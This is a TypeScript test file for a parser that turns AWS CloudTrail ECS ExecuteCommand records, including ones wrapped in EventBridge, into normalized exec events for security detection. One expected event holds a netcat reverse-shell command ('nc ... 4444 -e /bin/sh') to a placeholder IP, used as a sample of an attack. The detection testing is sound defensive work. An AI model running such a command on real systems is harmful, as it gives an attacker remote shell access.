import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../src/model.js";
import { cloudtrailEcsExec } from "../../src/sources/cloudtrail-ecs-exec.js";
import { context, itNormalizesFixtures, loadFixture } from "./fixtures.js";

const GROUP = "aws-cloudtrail-logs-123456789012-management";
const ctx = context({ logGroup: GROUP, logStream: "123456789012_CloudTrail_us-east-1" });
const source = {
  format: "cloudtrail-ecs-exec",
  logGroup: GROUP,
  logStream: "123456789012_CloudTrail_us-east-1",
  eventId: ctx.eventId,
  owner: "123456789012",
} as const;
const TASK = "arn:aws:ecs:us-east-1:123456789012:task/prod-api/976f2752ecfd4c08a35713e8599a9dea";
const UA =
  "aws-cli/2.22.35 md/awscrt#0.23.4 ua/2.0 os/macos#24.3.0 md/arch#arm64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#ecs.execute-command";

const expected: Record<string, ExecEvent[]> = {
  "cloudtrail-ecs-exec-nc": [
    {
      process: { name: "sh", path: "/bin/sh", args: ["-c", "nc 198.51.100.7 4444 -e /bin/sh"] },
      ancestors: [],
      container: { name: "orders-api" },
      workload: { platform: "ecs", cluster: "prod-api", task: TASK },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-20T12:00:01.000Z",
      source,
      sessionKey: "ecs-execute-command-0f1e2d3c4b5a69788",
      actor: {
        user: "arn:aws:sts::123456789012:assumed-role/ecs-operators/bob",
        sourceIPs: ["198.51.100.200"],
        userAgent: UA,
      },
    },
  ],
  "cloudtrail-ecs-exec-benign-shell": [
    {
      process: { name: "bash", path: "/bin/bash", args: [] },
      ancestors: [],
      container: { name: "orders-api" },
      workload: { platform: "ecs", cluster: "prod-api", task: TASK },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-20T15:30:44.000Z",
      source,
      sessionKey: "ecs-execute-command-05a4b3c2d1e0f9a8b",
      actor: {
        user: "arn:aws:sts::123456789012:assumed-role/ecs-operators/bob",
        sourceIPs: ["10.20.4.18"],
        userAgent: UA,
      },
    },
  ],
  // AccessDenied: no session was opened, nothing ran.
  "cloudtrail-ecs-exec-denied": [],
  // Mentions enableExecuteCommand, so it is sniffed, but it is another API call.
  "cloudtrail-ecs-run-task": [],
};

describe("cloudtrail ECS ExecuteCommand parser", () => {
  itNormalizesFixtures(cloudtrailEcsExec, ctx, expected);

  it("falls back to the request's task id, the ARN's cluster and the eventID when the response is missing", () => {
    // Prepare
    const fixture = loadFixture("cloudtrail-ecs-exec-nc");
    delete fixture.responseElements;
    const request = fixture.requestParameters as Record<string, unknown>;
    request.cluster = "arn:aws:ecs:us-east-1:123456789012:cluster/prod-api";

    // Act
    const [event] = cloudtrailEcsExec.parse(JSON.stringify(fixture), ctx) ?? [];

    // Assess
    expect(event?.workload).toEqual({
      platform: "ecs",
      cluster: "prod-api",
      task: "976f2752ecfd4c08a35713e8599a9dea",
    });
    expect(event?.container).toEqual({ name: "orders-api" });
    expect(event?.sessionKey).toBe("1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d");
  });

  it("reads the cluster from a long task ARN when no cluster is given", () => {
    const fixture = loadFixture("cloudtrail-ecs-exec-nc");
    const request = fixture.requestParameters as Record<string, unknown>;
    delete request.cluster;
    delete (fixture.responseElements as Record<string, unknown>).clusterArn;
    expect(cloudtrailEcsExec.parse(JSON.stringify(fixture), ctx)?.[0]?.workload.cluster).toBe("prod-api");
  });

  it("takes the principalId when the identity has no ARN", () => {
    const fixture = loadFixture("cloudtrail-ecs-exec-nc");
    fixture.userIdentity = { type: "AWSService", principalId: "AROAEXAMPLEROLEID5678:bob" };
    expect(cloudtrailEcsExec.parse(JSON.stringify(fixture), ctx)?.[0]?.actor?.user).toBe(
      "AROAEXAMPLEROLEID5678:bob",
    );
  });

  it("reads every ExecuteCommand of a CloudTrail delivery file", () => {
    const file = {
      Records: [
        loadFixture("cloudtrail-ecs-exec-nc"),
        loadFixture("cloudtrail-ecs-run-task"),
        loadFixture("cloudtrail-ecs-exec-benign-shell"),
      ],
    };
    const events = cloudtrailEcsExec.parse(JSON.stringify(file), ctx);
    expect(events?.map((event) => event.process.name)).toEqual(["sh", "bash"]);
  });

  it("yields nothing for an ExecuteCommand without a command", () => {
    const fixture = loadFixture("cloudtrail-ecs-exec-nc");
    (fixture.requestParameters as Record<string, unknown>).command = "   ";
    expect(cloudtrailEcsExec.parse(JSON.stringify(fixture), ctx)).toEqual([]);
  });

  it.each([
    ["plain text", "ExecuteCommand session started"],
    ["broken JSON", '{"eventSource":"ecs.amazonaws.com","eventName":"ExecuteCommand"'],
    ["no record fields", '{"eventName":"ExecuteCommand"}'],
    ["Records that is not an array", '{"Records":{"eventName":"ExecuteCommand"}}'],
  ])("returns null for %s", (_label, message) => {
    expect(cloudtrailEcsExec.parse(message, ctx)).toBeNull();
  });
});

describe("cloudtrail ecs exec through EventBridge", () => {
  const envelope = (detail: unknown, extra: Record<string, unknown> = {}) =>
    JSON.stringify({
      version: "0",
      id: "5e8a3c71-2f4b-9d06-1e7a-b3c5d8f02a64",
      "detail-type": "AWS API Call via CloudTrail",
      source: "aws.ecs",
      account: "123456789012",
      time: "2026-03-20T12:00:01Z",
      region: "us-east-1",
      resources: [],
      detail,
      ...extra,
    });

  it("reads the record under detail exactly as the record itself", () => {
    const record = loadFixture("cloudtrail-ecs-exec-nc");
    expect(cloudtrailEcsExec.parse(envelope(record), ctx)).toEqual(
      cloudtrailEcsExec.parse(JSON.stringify(record), ctx),
    );
  });

  it("takes the record by its envelope's source when detail-type is renamed", () => {
    const events = cloudtrailEcsExec.parse(
      envelope(loadFixture("cloudtrail-ecs-exec-nc"), { "detail-type": "Amazon API Call via CloudTrail" }),
      ctx,
    );
    expect(events?.[0]?.process.name).toBe("sh");
  });

  it("is not an EventBridge record when detail is no CloudTrail record", () => {
    const message = envelope({ note: "ExecuteCommand" }, { source: "custom.app", "detail-type": "x" });
    expect(cloudtrailEcsExec.parse(message, ctx)).toBeNull();
  });
});
